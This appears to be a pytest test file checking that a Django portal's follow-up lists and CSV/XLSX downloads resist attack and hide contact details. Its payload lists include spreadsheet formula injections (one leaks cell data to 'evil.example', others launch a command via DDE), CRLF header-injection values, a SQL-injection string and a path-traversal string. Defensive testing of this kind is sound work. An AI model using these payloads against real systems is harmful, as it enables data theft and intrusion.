"""Attacks on the follow-up lists and their downloads (decision 0015): who may list whom, who
reads contacts, formula injection, the download's name, odd parameters."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from associations.models import Membership
from batches.models import Application
from supplies.models import Need
from tests.conftest import api_as
from tests.factories import (
    ApplicationFactory,
    BatchFactory,
    EnterpriseFactory,
    MembershipFactory,
    UserFactory,
)
from tests.supplies.conftest import days_from_today, need_in

pytestmark = pytest.mark.django_db
S = Application.Status

NOT_APPLIED = reverse("follow-up-not-applied")
NOT_RESUMED = reverse("follow-up-not-resumed")
OVERDUE = reverse("follow-up-overdue-needs")
LISTS = ["follow-up-not-applied", "follow-up-not-resumed", "follow-up-overdue-needs"]
ALL_URLS = [reverse(n + s) for n in LISTS for s in ("", "-csv", "-xlsx")]

SECRET_PHONE = "13912345678"
SECRET_PHONE_SHOWN = "139 1234 5678"
SECRET_NAME = "离会后新联系人"


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _xlsx(response):
    data = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(data)).active


def _body(response) -> str:
    if response.streaming:
        data = b"".join(response.streaming_content)
        if data[:2] == b"PK":
            sheet = load_workbook(io.BytesIO(data)).active
            return "\n".join(
                " ".join(str(c.value) for c in row if c.value is not None)
                for row in sheet.iter_rows()
            )
        return data.decode("utf-8-sig")
    return response.content.decode()


@pytest.fixture
def lists(cast):
    """A batch of each association, approved-not-resumed members in each, overdue needs in
    each; cast.member approved in cast.association's batch."""
    batch = BatchFactory(association=cast.association, regions=["440000"], industries=["C"])
    other_batch = BatchFactory(
        association=cast.other_association, regions=["330000"], industries=["C"]
    )
    now = timezone.now()
    ApplicationFactory(batch=batch, enterprise=cast.member, status=S.APPROVED, decided_at=now)
    ApplicationFactory(
        batch=other_batch, enterprise=cast.other_member, status=S.APPROVED, decided_at=now
    )
    need_in(cast, Need.Status.OPEN, needed_by=days_from_today(-3))
    need_in(
        cast,
        Need.Status.OPEN,
        enterprise=cast.other_member,
        association=cast.other_association,
        needed_by=days_from_today(-3),
    )
    return batch, other_batch


# --- former members ---------------------------------------------------------------------------


def _ex_member(cast, batch):
    """An enterprise approved in cast.association's batch that then left the association (and
    joined the other one); after leaving it changed its contact person and phone."""
    gone = EnterpriseFactory(name="已退会电子", region_id="440106", industry_id="39")
    membership = MembershipFactory(enterprise=gone, association=cast.association)
    ApplicationFactory(
        batch=batch, enterprise=gone, status=S.APPROVED, decided_at=timezone.now() - timedelta(1)
    )
    Membership.objects.filter(pk=membership.pk).update(
        status=Membership.Status.LEFT, left_on=timezone.localdate()
    )
    MembershipFactory(enterprise=gone, association=cast.other_association)
    gone.contact_name, gone.contact_phone = SECRET_NAME, SECRET_PHONE
    gone.save()
    return gone


def test_an_ex_member_s_new_contact_is_not_listed_to_its_former_association(cast, lists, client):
    """The not-resumed list (page, CSV, XLSX) leaves the contact person and phone blank for an
    enterprise that has left the association, as the portal does everywhere else (the
    enterprise API answers 404 and the association keeps only the record as it was when it
    left, Membership.kept_record)."""
    batch, _other = lists
    gone = _ex_member(cast, batch)
    # Elsewhere the former association no longer reads the enterprise at all.
    assert api_as(cast.staff).get(f"/api/v1/enterprises/{gone.pk}/").status_code == 404

    client.force_login(cast.staff)
    leaks = []
    for url in (
        NOT_RESUMED,
        reverse("follow-up-not-resumed-csv"),
        reverse("follow-up-not-resumed-xlsx"),
    ):
        response = client.get(url, {"batch": batch.pk})
        assert response.status_code == 200
        body = _body(response)
        if SECRET_NAME in body or SECRET_PHONE_SHOWN in body or SECRET_PHONE in body:
            leaks.append(url)
    assert leaks == [], f"ex-member's current contact shown by {leaks}"


def test_an_ex_member_s_new_contact_is_not_in_the_overdue_needs_list(cast, lists, client):
    """An open, overdue need the enterprise filed while a member stays on the former
    association's overdue list, without the enterprise's current contact person and phone."""
    batch, _other = lists
    gone = _ex_member(cast, batch)
    need_in(cast, Need.Status.OPEN, enterprise=gone, needed_by=days_from_today(-2))
    assert api_as(cast.staff).get(f"/api/v1/enterprises/{gone.pk}/").status_code == 404

    client.force_login(cast.staff)
    leaks = []
    for url in (
        OVERDUE,
        reverse("follow-up-overdue-needs-csv"),
        reverse("follow-up-overdue-needs-xlsx"),
    ):
        body = _body(client.get(url))
        if SECRET_NAME in body or SECRET_PHONE_SHOWN in body or SECRET_PHONE in body:
            leaks.append(url)
    assert leaks == [], f"ex-member's current contact shown by {leaks}"


# --- held: whom staff may list --------------------------------------------------------------


@pytest.mark.parametrize("url", ALL_URLS)
def test_staff_cannot_open_another_association_s_lists(cast, lists, client, url):
    _batch, other_batch = lists
    client.force_login(cast.staff)
    assert client.get(url, {"association": cast.other_association.pk}).status_code == 404
    if "needs" not in url:
        assert client.get(url, {"batch": other_batch.pk}).status_code == 404
        # A batch of theirs with the other association: the batch decides, the other is refused.
        assert (
            client.get(
                url, {"batch": other_batch.pk, "association": cast.association.pk}
            ).status_code
            == 404
        )


@pytest.mark.parametrize("url", ALL_URLS)
def test_staff_s_default_lists_name_none_of_the_other_association_s_members(
    cast, lists, client, url
):
    client.force_login(cast.staff)
    for params in ({}, {"region": "330000"}, {"region": "330106"}, {"industry": "18"}):
        response = client.get(url, params)
        if response.status_code == 404:  # a download whose filters could not be read
            continue
        body = _body(response)
        assert cast.other_member.name not in body, params


def test_a_partner_bound_to_an_association_cannot_list_the_other(cast, lists, client):
    _batch, other_batch = lists
    client.force_login(cast.partner)
    assert client.get(NOT_RESUMED, {"batch": other_batch.pk}).status_code == 404
    assert client.get(OVERDUE, {"association": cast.other_association.pk}).status_code == 404


@pytest.mark.parametrize("url", ALL_URLS)
def test_enterprise_users_are_refused(cast, lists, client, url):
    client.force_login(cast.enterprise_user)
    assert client.get(url).status_code == 403


# --- held: officials read enterprises, not phones --------------------------------------------


@pytest.mark.parametrize("url", ALL_URLS)
def test_officials_get_no_contact_in_pages_or_downloads(cast, lists, client, url):
    batch, _ = lists
    # An escalated, overdue need so the official's overdue list has a row.
    need_in(cast, Need.Status.ESCALATED, needed_by=days_from_today(-4))
    # An eligible member that has not applied, so the not-applied list has a row.
    waiting = EnterpriseFactory(name="乐昌未申请电子", region_id="440281", industry_id="39")
    MembershipFactory(enterprise=waiting, association=cast.association)
    client.force_login(cast.official)
    params = {} if "needs" in url else {"batch": batch.pk}
    response = client.get(url, params)
    assert response.status_code == 200
    body = _body(response)
    listed = waiting.name if "not-applied" in url else cast.member.name
    assert listed in body  # there is a row ...
    assert "13800138000" not in body and "138 0013 8000" not in body  # ... without the phone
    assert "张三" not in body


@pytest.mark.parametrize("url", ALL_URLS)
def test_an_official_cannot_open_an_association_outside_the_jurisdiction(cast, lists, client, url):
    _batch, other_batch = lists
    client.force_login(cast.official)
    assert client.get(url, {"association": cast.other_association.pk}).status_code == 404
    if "needs" not in url:
        assert client.get(url, {"batch": other_batch.pk}).status_code == 404


def test_an_official_s_list_names_only_enterprises_inside_the_jurisdiction(cast, lists, client):
    """A Guangdong association's member in Zhejiang is approved and not resumed: a Guangdong
    official's list does not name it."""
    batch, _ = lists
    outside = EnterpriseFactory(name="浙江分厂", region_id="330106", industry_id="39")
    MembershipFactory(enterprise=outside, association=cast.association)
    ApplicationFactory(
        batch=batch, enterprise=outside, status=S.APPROVED, decided_at=timezone.now()
    )
    client.force_login(cast.official)
    for url in (NOT_RESUMED, reverse("follow-up-not-resumed-csv")):
        body = _body(client.get(url, {"batch": batch.pk}))
        assert "浙江分厂" not in body
    client.force_login(cast.staff)
    assert "浙江分厂" in _body(client.get(NOT_RESUMED, {"batch": batch.pk}))


def test_a_partner_bound_to_a_jurisdiction_gets_no_contact(cast, lists, client):
    partner = UserFactory(username="gov_partner", role="partner", jurisdiction_id="440000")
    batch, _ = lists
    client.force_login(partner)
    response = client.get(reverse("follow-up-not-resumed-csv"), {"batch": batch.pk})
    assert response.status_code == 200
    body = _body(response)
    assert cast.member.name in body and "138 0013 8000" not in body


# --- held: downloads --------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_stay_text_in_every_download(cast, lists, client, payload):
    batch, _ = lists
    cast.member.contact_name = payload
    cast.member.name = payload + " 公司"
    cast.member.save()
    client.force_login(cast.staff)
    rows = _csv(client.get(reverse("follow-up-not-resumed-csv"), {"batch": batch.pk}))
    cells = [cell for row in rows[1:] for cell in row]
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        or cell.lstrip("+-").replace(".", "").isdigit()
        for cell in cells
    ), cells
    sheet = _xlsx(client.get(reverse("follow-up-not-resumed-xlsx"), {"batch": batch.pk}))
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
    rows = _csv(client.get(reverse("follow-up-overdue-needs-csv")))
    cells = [cell for row in rows[1:] for cell in row]
    assert payload not in cells and ("'" + payload) in cells


@pytest.mark.parametrize(
    "region", ["440281\r\nSet-Cookie: x=1", '440281"; filename="evil.exe', "乐昌市\r\nX: y"]
)
def test_no_header_injection_through_the_region(cast, lists, client, region):
    client.force_login(cast.staff)
    for url in (reverse("follow-up-not-applied-csv"), reverse("follow-up-overdue-needs-xlsx")):
        response = client.get(url, {"region": region})
        assert response.status_code in (200, 404)
        disposition = response.get("Content-Disposition", "")
        assert "\r" not in disposition and "\n" not in disposition
        assert "evil.exe" not in disposition and "Set-Cookie" not in str(response.headers)


def test_the_download_name_is_made_of_codes_and_reference_names(cast, lists, client):
    client.force_login(cast.staff)
    response = client.get(
        reverse("follow-up-not-applied-csv"), {"region": "乐昌市", "industry": "C"}
    )
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="not-applied-440281-')
    assert "\n" not in disposition


# --- held: odd parameters never answer 500 -----------------------------------------------------

ODD = [
    {"association": "99999999999999999999999"},
    {"association": "１"},
    {"association": "-1"},
    {"association": "\x00"},
    {"batch": "9223372036854775808"},
    {"batch": "1 OR 1=1"},
    {"region": "\x00"},
    {"region": "广" * 3000},
    {"region": "../../etc/passwd"},
    {"industry": "\x00"},
    {"kind": "\x00"},
    {"page": "99999999999999999999"},
    {"page": "-1"},
    {"page": "1e400"},
]


@pytest.mark.parametrize("url", ALL_URLS)
def test_odd_parameters_answer_a_page_or_404_never_500(cast, lists, client, url):
    client.raise_request_exception = False
    client.force_login(cast.staff)
    for params in ODD:
        response = client.get(url, params)
        assert response.status_code in (200, 404), (params, response.status_code)
